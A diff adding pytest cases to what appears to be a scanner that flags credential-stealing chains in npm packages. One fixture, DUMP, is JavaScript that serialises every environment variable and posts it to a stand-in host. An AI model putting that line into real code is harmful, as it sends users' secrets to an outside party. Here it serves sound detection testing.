@@ -286,3 +286,33 @@ def test_a_program_that_another_file_asks_for_unseen_is_not_certain_as_one_that_
     called = {"index.js": "require('./lib').find();\n", "lib.js": f"exports.find = () => {{ {_UNSEEN} }};\n"}
     assert of_rule(npm({"index.js": _UNSEEN}), "attack-chain")
     assert [] == of_rule(npm(called), "attack-chain")
+
+
+DUMP = "const body = JSON.stringify(process.env);\nfetch('https://far.invalid/', { method: 'POST', body });\n"
+
+
+@pytest.mark.parametrize(
+    ("manifest", "held"),
+    [
+        ({"bin": {"sample": "lib/run.js"}}, True),
+        ({"bin": {"sample": "cli.js"}}, True),
+        ({}, False),
+    ],
+    ids=["a program", "asked for by a program", "asked for by nobody"],
+)
+def test_what_nobody_asks_of_a_program_is_held_when_the_package_brings_it(
+    manifest: dict[str, object], held: bool
+) -> None:
+    files = {
+        "package.json": package_json(main="index.js", **manifest),
+        "index.js": "module.exports = 1;\n",
+        "cli.js": "#!/usr/bin/env node\nrequire('./lib/run');\n",
+        "lib/run.js": DUMP,
+    }
+    assert held is any(one.severity is Severity.CRITICAL for one in of_rule(npm(files), "attack-chain"))
+
+
+def test_a_program_that_sends_its_own_token_is_a_client() -> None:
+    code = "fetch('https://far.invalid/', { headers: { authorization: process.env.FAR_TOKEN } });\n"
+    files = {"package.json": package_json(bin="cli.js"), "cli.js": f"#!/usr/bin/env node\n{code}"}
+    assert not of_rule(npm(files), "attack-chain")
